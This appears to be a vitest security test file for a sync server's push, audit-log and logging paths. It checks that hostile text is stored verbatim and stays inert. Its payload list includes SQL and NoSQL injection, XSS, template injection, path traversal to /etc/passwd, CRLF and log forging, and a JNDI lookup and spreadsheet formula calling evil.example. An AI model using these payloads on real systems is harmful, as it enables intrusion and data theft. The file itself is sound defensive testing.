import { Writable } from "node:stream";
import { sql } from "kysely";
import pino from "pino";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { brokenAt, readAudit } from "#server/audit/log.ts";
import { buildApp } from "#server/http/app.ts";
import { createAuthenticate } from "#server/identity/authenticate.ts";
import { createTokenVerifier } from "#server/identity/verify-token.ts";
import { type IntentType, intentDefs } from "#shared/domain/registry.ts";
import { PROTOCOL } from "#shared/sync/protocol.ts";
import { PushResponse, routes } from "#shared/sync/wire.ts";
import { id, intent } from "#shared/testing/builders.ts";
import { SECRET } from "./foreign.ts";
import { intentTypes, makerOf, soundPayload, targetOf } from "./sound.ts";
import { openStage, type Stage } from "./stage.ts";

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
});
afterAll(() => stage.close());

/** What has made other programs do something else than keep a text. */
const hostile = {
  "a quote": "' OR '1'='1",
  "a statement": "x'); DROP TABLE record; --",
  "an operator": '{"$ne":null}',
  "a template": `\${7*7}{{7*7}}<%= 7*7 %>`,
  "a script": "<script>alert(1)</script>",
  "an event": '"><img src=x onerror=alert(1)>',
  wildcards: "%_*?[a-z]",
  "a lookup": `\${jndi:ldap://evil.example/a}`,
  "a formula": '=HYPERLINK("https://evil.example","x")',
  "a path": "../../../../etc/passwd",
  lines: "a\r\nSet-Cookie: x=1\r\n\r\nb",
  "a line of a log": 'a\n{"level":60,"msg":"forged"}\nb',
  "a terminal": "\u001b[2J\u001b[31mred\u0007",
  "right to left": "\u202Egpj.exe",
  "no width": "a\u200B\uFEFFb",
  zero: "before\0after",
  "half a character": "x\ud800y\udc00z",
  "a number": "1e309",
  "Thai and more": "ปั๊มน้ำ 💧 नमस्ते",
};

const push = (who: string, intents: readonly unknown[]) =>
  stage.shoot(who, routes.push, {
    body: { protocol: PROTOCOL, installation: id("laptop"), appVersion: "test", intents },
  });

const expected = (text: string) => text.toWellFormed().replaceAll("\0", "\uFFFD").trim();

/** The fields of a payload that hold what people write. */
const textFields = (type: IntentType): string[] =>
  Object.entries(soundPayload(type)).flatMap(([field, value]) => {
    const free = intentDefs[type].payload.safeParse({ ...soundPayload(type), [field]: "a b" });
    return typeof value === "string" && free.success ? [field] : [];
  });

const written = intentTypes.flatMap((type) => textFields(type).map((field) => ({ type, field })));

describe("[PRT-4] whatever is written is kept as it was written, and does nothing", () => {
  test("there are such fields", () => {
    expect(written.length).toBeGreaterThan(8);
  });

  test.each(written)("in $field of $type", async ({ type, field }) => {
    const who = makerOf(type);
    const made = Object.entries(hostile).map(([name, text]) =>
      intent(who, type, targetOf(type, `${type} ${field} ${name}`), {
        ...soundPayload(type),
        [field]: text,
      }),
    );
    const hit = await push(who, made);
    expect(hit.status).toBe(200);
    expect(hit.text).not.toContain(SECRET);
    const { verdicts } = PushResponse.parse(JSON.parse(hit.text));
    const log = await readAudit(
      stage.store.db,
      id(who === "Nok" || who === "Cora" ? "Acme" : "Nera"),
    );
    for (const [n, text] of Object.values(hostile).entries()) {
      const line = log.find(({ entry }) => entry.intent.id === made[n]?.id);
      const payload = line?.entry.intent.payload as Record<string, unknown> | undefined;
      if (line !== undefined) {
        expect(String(payload?.[field]).trim()).toBe(expected(text));
      }
      // Some are refused by rules: a visit that is over, an owner's place. None for what they say.
      const failure = verdicts[n]?.status === "refused" ? verdicts[n].failure.code : "";
      expect(["server-failed", "intent-unknown", "request-malformed"]).not.toContain(failure);
    }
    expect(brokenAt(log)).toBeNull();
  });

  test("the records that hold it hold nothing else, and the tables stand", async () => {
    const texts = Object.values(hostile);
    const made = texts.map((text) => intent("Nok", "ticket.note", id("pump-ticket"), { text }));
    const { verdicts, records } = PushResponse.parse(JSON.parse((await push("Nok", made)).text));
    expect(new Set(verdicts.map(({ status }) => status))).toEqual(new Set(["applied"]));
    const notes = records[0]?.data?.notes as { id: string; text: string }[];
    for (const [n, text] of texts.entries()) {
      expect(notes.find((one) => one.id === made[n]?.id)?.text).toBe(expected(text));
    }
    const { rows } = await sql<{ integrity_check: string }>`PRAGMA integrity_check`.execute(
      stage.store.db,
    );
    expect(rows).toEqual([{ integrity_check: "ok" }]);
  });
});

test("[PRT-4] what is looked for in a log is a text and no pattern", async () => {
  const note = intent("Nok", "ticket.note", id("pump-ticket"), { text: "100% of it_all" });
  await push("Nok", [note]);
  const found = async (query: Record<string, string>) => {
    const hit = await stage.shoot("Cora", "/audit/log", {
      query: new URLSearchParams({ ...query, limit: "500" }).toString(),
    });
    expect([query, hit.status]).toEqual([query, 200]);
    expect(hit.text).not.toContain(SECRET);
    return (JSON.parse(hit.text) as { lines: { entry: { intent: { id: string } } }[] }).lines.map(
      ({ entry }) => entry.intent.id,
    );
  };
  expect(await found({ text: "100% OF it_all" })).toContain(note.id);
  for (const text of ["100%it_all", "100_ of", "100. of", "1?0%", ".*of it"]) {
    expect([text, await found({ text })]).toEqual([text, expect.not.arrayContaining([note.id])]);
  }
  for (const type of [
    "%",
    "_icket.",
    "ticket_note",
    "ticket%",
    "' OR 1=1 --",
    "\0",
    "x".repeat(64),
  ]) {
    expect([type, await found({ type })]).toEqual([type, []]);
  }
  const odd = [
    "type=a&type=b",
    "type[$ne]=x",
    "text=",
    "limit=1e9",
    "after=-1",
    "order=up",
    "log=%27",
    "actor=1%20OR%201",
    "from=2026-06-15T03:00:00.000Z%27",
    "after=NaN",
    "to=now()",
  ];
  for (const query of odd) {
    const { status } = await stage.shoot("Cora", "/audit/log", { query });
    expect([query, [200, 400, 403].includes(status)]).toEqual([query, true]);
  }
});

test("[PRT-4] texts outside of payloads are taken as texts as well, wherever they stand", async () => {
  for (const text of Object.values(hostile)) {
    const note = intent("Nok", "ticket.note", id("pump-ticket"), { text: "x" });
    const odd = [
      { ...note, type: text },
      { ...note, id: text },
      { ...note, deviceTime: text },
      { ...note, actor: text },
      { ...note, after: text },
      { ...note, saw: { [text]: text } },
      { ...note, target: { kind: text, id: text } },
    ];
    expect([text, (await push("Nok", odd)).status]).toEqual([text, 200]);
    const shared = { protocol: PROTOCOL, installation: id("laptop"), intents: [note] };
    const told = await stage.shoot("Nok on laptop", routes.push, {
      body: { ...shared, appVersion: text },
    });
    expect([text, [200, 400].includes(told.status)]).toEqual([text, true]);
    const after = { epoch: text, lens: text, seq: 0 };
    for (const path of [routes.pull, routes.revocations]) {
      const hit = await stage.shoot("Nok", path, { body: { protocol: PROTOCOL, after, limit: 1 } });
      expect([text, path, [200, 400].includes(hit.status)]).toEqual([text, path, true]);
    }
    const decided = { intentId: note.id, decision: "kept", reason: text, at: note.deviceTime };
    const desk = await stage.shoot("Nok", routes.desk, {
      body: { protocol: PROTOCOL, decisions: [decided] },
    });
    expect([text, desk.status]).toEqual([text, 200]);
    const preview = { accountId: null, roles: { [text]: id("role of Nok") } };
    const seen = await stage.shoot("Ada", "/people/preview", { body: preview });
    expect([text, seen.status]).toEqual([text, 200]);
  }
});

test("[S14] nothing that a caller sends makes a line of the server's log, an escape, or tells a secret there", async () => {
  const lines: string[] = [];
  const sink = new Writable({
    write: (chunk, _encoding, done) => {
      lines.push(String(chunk));
      done();
    },
  });
  const log = pino({ level: "trace" }, sink);
  const issuer = "http://127.0.0.1:1";
  const verify = createTokenVerifier({ issuer, audience: "x" });
  const proved = createAuthenticate({ verify, binding: "dpop", publicUrl: issuer, log });
  const broken = {
    ...stage.store,
    reading: async () => {
      throw new Error(`reading failed: ${hostile["a line of a log"]} ${hostile["a terminal"]}`);
    },
  };
  const now = () => stage.clock.now;
  const shared = { log, now, requestsPerMinute: 10_000 };
  const [outside, inside] = await Promise.all([
    buildApp({ ...shared, store: stage.store, ...proved }),
    buildApp({
      ...{ ...shared, store: broken },
      authenticate: async () => {
        const expiresAt = Date.now() + 60_000;
        return {
          ok: true,
          value: { sub: id("Nok"), tenant: null, expiresAt, authTime: Date.now() },
        };
      },
    }),
  ]);
  const secret = "eyJhbGciOiJub25lIn0.c2VjcmV0.dG9rZW4";
  for (const text of Object.values(hostile)) {
    const body = { protocol: PROTOCOL, kinds: ["ticket"], after: null, limit: 1, text };
    const printable = encodeURIComponent(text.toWellFormed());
    const headers = {
      ...{ authorization: `DPoP ${secret}`, dpop: printable, "user-agent": printable },
      "x-riversync-installation": printable,
    };
    for (const app of [outside, inside]) {
      const payload = body as object;
      await app.inject({ method: "POST", url: routes.digest, headers, payload });
      await app.inject({ url: `${routes.me}/${printable}?a=${printable}`, headers });
      await app.inject({ method: "POST", url: routes.push, headers, payload: printable });
    }
  }
  await Promise.all([outside.close(), inside.close()]);
  expect(lines.length).toBeGreaterThan(20);
  for (const line of lines) {
    expect(line.indexOf("\n")).toBe(line.length - 1);
    expect(JSON.parse(line)).not.toMatchObject({ msg: "forged" });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what must not be there
    expect(line.slice(0, -1)).not.toMatch(/[\u0000-\u001f\u007f]/);
    expect(line).not.toContain(secret);
  }
});
